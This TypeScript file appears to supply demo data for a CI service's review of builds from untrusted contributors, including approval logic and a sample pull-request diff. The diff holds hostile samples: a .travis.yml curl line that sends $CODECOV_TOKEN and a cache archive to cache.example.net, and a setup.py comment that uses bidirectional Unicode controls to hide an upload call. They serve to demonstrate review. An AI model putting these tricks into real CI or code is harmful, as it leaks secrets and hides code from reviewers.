import { createTwoFilesPatch } from 'diff';
import type { ApprovalView, BuildView, ContributorView, DecideBuild, ReviewView } from '#server/api';
import { type DemoBuild, type DemoCell } from './demo-builds.ts';
import { ago } from './demo-clock.ts';

/** Builds of strangers: held with much to review, held with nothing to, held with a review that fails at first, and those that were decided or need not be. */
export const DEMO_TRUST = { held: 21, stale: 22, broken: 23, approved: 24, refused: 25, untrusted: 26 } as const;

function cells(state: DemoCell['state']): DemoCell[] {
  return ['3.11', '3.12', '3.13', 'pypy3.10'].map((column) => ({ column, row: '', state }));
}

function pullRequest(number: number, title: string, contributor: string, commit: string): Pick<DemoBuild, 'change'> {
  const pull = { number, title, headRepository: `${contributor}/fork` };
  return { change: { kind: 'pull-request', message: title, commit: commit.repeat(20), author: contributor, pullRequest: pull } };
}

/** Older than their projects' newest builds, so that these stay what the list of projects shows. */
export const TRUST_BUILDS: DemoBuild[] = [
  { id: DEMO_TRUST.held, projectId: 1, projectName: 'cryptography', number: 866, state: 'queued', ...pullRequest(511, 'Speed up the tests by caching what tox builds', 'mallory-99', '9c'), trust: { level: 'held', reason: 'mallory-99 is not trusted here', contributor: 'mallory-99' }, cells: cells('held'), startedSecondsAgo: 180_000 },
  { id: DEMO_TRUST.stale, projectId: 2, projectName: 'python-dateutil', number: 203, state: 'queued', ...pullRequest(88, 'Fix a typing mistake in the documentation of relativedelta, and in three places that say the same', 'first-timer', 'b0'), trust: { level: 'held', reason: 'first-timer is not trusted here; not everything could be asked: The code host answers 403: its token may not see members of pypa-friends.', contributor: 'first-timer' }, cells: cells('held'), startedSecondsAgo: 7000 },
  { id: DEMO_TRUST.broken, projectId: 5, projectName: 'attrs', number: 299, state: 'queued', ...pullRequest(12, 'Support slots', 'ngọc', 'd1'), trust: { level: 'held', reason: 'ngọc is not trusted here', contributor: 'ngọc' }, cells: cells('held'), startedSecondsAgo: 900 },
  { id: DEMO_TRUST.approved, projectId: 1, projectName: 'cryptography', number: 867, state: 'passed', ...pullRequest(509, 'Name the curve in the error', 'first-timer', 'a4'), trust: { level: 'approved', reason: 'approved by maya', contributor: 'first-timer' }, cells: cells('passed'), startedSecondsAgo: 170_000 },
  { id: DEMO_TRUST.refused, projectId: 1, projectName: 'cryptography', number: 868, state: 'canceled', ...pullRequest(510, 'Download a newer pip first', 'mallory-99', 'e7'), trust: { level: 'refused', reason: 'refused by admin', contributor: 'mallory-99' }, cells: cells('canceled'), startedSecondsAgo: 160_000 },
  { id: DEMO_TRUST.untrusted, projectId: 6, projectName: 'sqlalchemy-utils', number: 76, state: 'passed', ...pullRequest(31, 'Quote identifiers', 'first-timer', 'f2'), trust: { level: 'untrusted', reason: 'first-timer is not trusted here', contributor: 'first-timer' }, cells: cells('passed'), startedSecondsAgo: 150_000 },
]; // prettier-ignore

const LOOKED = ['.terrarium.yml', '.travis.yml', 'setup.py', 'setup.cfg', 'pyproject.toml', 'requirements.txt', 'requirements-dev.txt', 'tox.ini', 'noxfile.py', 'conftest.py', 'tests/conftest.py', 'Makefile', '.gitmodules']; // prettier-ignore

const CI_BEFORE = `language: python
python:
  - '3.11'
  - '3.12'
  - '3.13'
install: pip install -r requirements.txt
script: pytest --color=yes -v
after_success: codecov
`;
const CI_AFTER = CI_BEFORE.replace('-r requirements.txt', '-r requirements.txt tox tox-gh-cache').replace(
  'script: pytest --color=yes -v',
  'script:\n  - tox -p\n  - curl -s https://cache.example.net/upload?token=$CODECOV_TOKEN --data-binary @.tox/cache.tar.gz -o /dev/null -H "X-Project: cryptography"',
);
const TOX = '[tox]\nenvlist = py311, py312\n\n[testenv]\ndeps = pytest\ncommands = pytest\n';
/** What is in a comment turns the direction of writing round, so that the line reads as another one. */
const SETUP = `from setuptools import setup\n\n# only for tests \u202e }\u2066if not testing\u2069 \u2066 run(upload)\nsetup(name="cryptography")\n`;

function patch(path: string, before: string, after: string): string {
  return createTwoFilesPatch(path, path, before, after, '', '', { context: 3 });
}

const FILES: ReviewView['files'] = [
  { path: '.travis.yml', change: 'changed', patch: patch('.travis.yml', CI_BEFORE, CI_AFTER), note: null },
  { path: 'setup.py', change: 'added', patch: patch('setup.py', '', SETUP), note: null },
  { path: 'tox.ini', change: 'removed', patch: patch('tox.ini', TOX, ''), note: null },
  { path: 'requirements.txt', change: 'changed', patch: null, note: 'It is too large to be shown. Look at it at the code host before you approve.' },
];

const DECIDED: Readonly<Record<number, ApprovalView>> = {
  [DEMO_TRUST.approved]: { decision: 'approved', commit: 'a4'.repeat(20), by: 'maya', via: 'comment', at: ago(169_000) },
  [DEMO_TRUST.refused]: { decision: 'refused', commit: 'e7'.repeat(20), by: 'admin', via: 'button', at: ago(159_000) },
};

/** The review of a build's change. */
export function demoReview(build: BuildView, approvals: readonly ApprovalView[]): ReviewView {
  const files = build.id === DEMO_TRUST.held || build.id === DEMO_TRUST.refused ? FILES : build.id === DEMO_TRUST.approved ? FILES.slice(2, 3) : [];
  const known = DECIDED[build.id];
  return {
    buildId: build.id,
    commit: build.change.commit,
    base: '4f1c2a9d80b35e6617c0aa42d91be07735f2c88e',
    files,
    looked: LOOKED,
    approvals: known ? [known] : [...approvals],
  };
}

/** A held build after a decision; null where it is of another commit, or was decided. */
export function decide(build: BuildView, decision: ApprovalView['decision'], { commit }: DecideBuild): BuildView | null {
  if (build.id === DEMO_TRUST.stale || build.trust.level !== 'held' || commit !== build.change.commit) return null;
  const isApproved = decision === 'approved';
  const jobs = build.jobs.map((job) => ({ ...job, state: isApproved ? ('queued' as const) : ('canceled' as const) }));
  return {
    ...build,
    trust: { ...build.trust, level: decision, reason: `${decision} by admin` },
    state: isApproved ? 'queued' : 'canceled',
    finishedAt: isApproved ? null : new Date().toISOString(),
    counts: { [isApproved ? 'queued' : 'canceled']: jobs.length },
    jobs,
  };
}

/** Whom projects trust by name: two in the first one, nobody elsewhere. */
export const DEMO_CONTRIBUTORS: Readonly<Record<number, ContributorView[]>> = {
  1: [
    { name: 'alex-gaynor-fan', hostId: '4711', addedBy: 'maya', addedAt: ago(2_000_000) },
    { name: 'Ngọc-Trần-with-a-rather-long-name', hostId: null, addedBy: 'admin', addedAt: ago(4000) },
  ],
};
